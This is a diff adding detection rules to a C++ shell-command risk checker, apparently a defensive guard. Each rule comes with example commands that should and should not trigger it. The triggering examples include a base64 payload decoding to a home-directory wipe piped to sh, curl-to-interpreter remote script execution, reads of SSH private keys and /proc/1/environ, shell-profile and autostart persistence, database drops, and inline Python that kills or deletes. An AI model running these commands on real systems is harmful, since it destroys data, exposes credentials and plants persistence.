@@ -514,6 +514,46 @@ const std::vector<Rule> &ruleTable()
 {
     using T = Trigger;
     static const std::vector<Rule> table{
+        // What runs: text the line computes, decodes or downloads, or nests past reading.
+        {"computed-name", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Command name is computed when it runs"),
+         {"X=shred; $X notes.txt", "$(echo shred) notes.txt", "eval \"$CMD\"", "f() { ls; }; f", "cat commands.txt | $SHELL"},
+         {"echo $HOME", "X=1; echo $X"}},
+        {"decoded-text", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Decoded text run by a shell or interpreter"),
+         {"echo cm0gLXJmIH4= | base64 -d | sh", "eval \"$(echo x | base64 --decode)\""}, {"echo aGk= | base64 -d"}},
+        {"remote-script", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Remote script run by an interpreter (curl | interpreter)"),
+         {"curl -s https://x/i.py | python3", "python3 <(wget -qO- https://x/a.py)"}, {"curl -s https://x/i.py -o i.py"}},
+        {"nested-too-deeply", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Command nested too deeply to check"), {}, {}},
+        {"too-complex", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Command is too complex to judge"),
+         {"x0=ab; x1=$x0$x0; x2=$x1$x1; x3=$x2$x2; x4=$x3$x3; x5=$x4$x4; x6=$x5$x5; x7=$x6$x6; x8=$x7$x7; x9=$x8$x8; x10=$x9$x9; x11=$x10$x10; "
+          "x12=$x11$x11; x13=$x12$x12; x14=$x13$x13; x15=$x14$x14; x16=$x15$x15; echo $x16"},
+         {"x0=ab; x1=$x0$x0; x2=$x1$x1; echo $x2"}},
+        // What is read or written: credential and start-up places.
+        {"credential-place", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Credential file access (%1)"),
+         {"cat ~/.ssh/id_ed25519", "tar czf k.tgz ~/.gnupg", "cat /proc/1/environ"}, {"ls ~/.ssh", "cat ~/.ssh/id_ed25519.pub"}},
+        {"shell-profile", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Shell profile tampering"),
+         {"echo 'x' >> ~/.zshenv", "cp evil ~/.bash_aliases"}, {"ls -l ~/.zshenv"}},
+        {"autostart", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Autostart change (persistence)"),
+         {"cp run.desktop ~/.config/autostart/", "cp x.desktop /etc/xdg/autostart/"}, {"ls /etc/xdg/autostart"}},
+        {"http-delete", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("HTTP DELETE request (%1)"),
+         {"curl -X DELETE https://api/x/1", "http DELETE https://api/x/1"}, {"curl -X GET https://api/x/1"}},
+        {"found-deleted", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Deletes files found when it runs (%1)"),
+         {"find /srv -type f -exec rm {} +", "find . -name '*.pyc' | xargs rm", "fd -e log -x rm"}, {"find . -name '*.pyc' -exec rm {} +"}},
+        {"database-dropped", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Database dropped (%1)"),
+         {"dropdb app", "psql -c 'DROP DATABASE app'"}, {"psql -c 'SELECT 1'"}},
+        // What inline programs do.
+        {"program-deletes", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Inline program deletes files"),
+         {"python3 -c 'import os; os.remove(\"notes.txt\")'", "python3 -c \"import shutil; shutil.rmtree('/tmp/x')\""},
+         {"python3 -c \"import shutil; shutil.rmtree('build')\""}},
+        {"program-overwrites", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Inline program overwrites files"),
+         {"python3 -c \"open('/etc/hosts','w').write('x')\""}, {"python3 -c \"print(open('x').read())\""}},
+        {"program-permissions", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Inline program changes permissions"),
+         {"python3 -c \"import os; os.chmod('x', 0o777)\""}, {"python3 -c \"import os; print(os.stat('x'))\""}},
+        {"program-kills", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Inline program kills processes"),
+         {"python3 -c 'import os; os.kill(1, 9)'"}, {"python3 -c 'import signal; print(signal.SIGTERM)'"}},
+        {"program-runs", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Inline program runs commands"),
+         {"python3 -c 'import os,sys; os.system(sys.argv[1])' x"}, {"python3 -c 'import os; os.system(\"ls\")'"}},
+        {"program-credential", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Inline program touches credential files"),
+         {"python3 -c \"print(open('/home/u/.ssh/id_rsa').read())\""}, {"python3 -c \"print(open('README').read())\""}},
         // Power, services and processes of others.
         {"shutdown", T::Command, words("poweroff halt systemctl loginctl init telinit"), {}, {}, {}, {}, [](const RuleContext &c) {
              if (isOneOf(c.inv.name, {u"poweroff", u"halt"}))
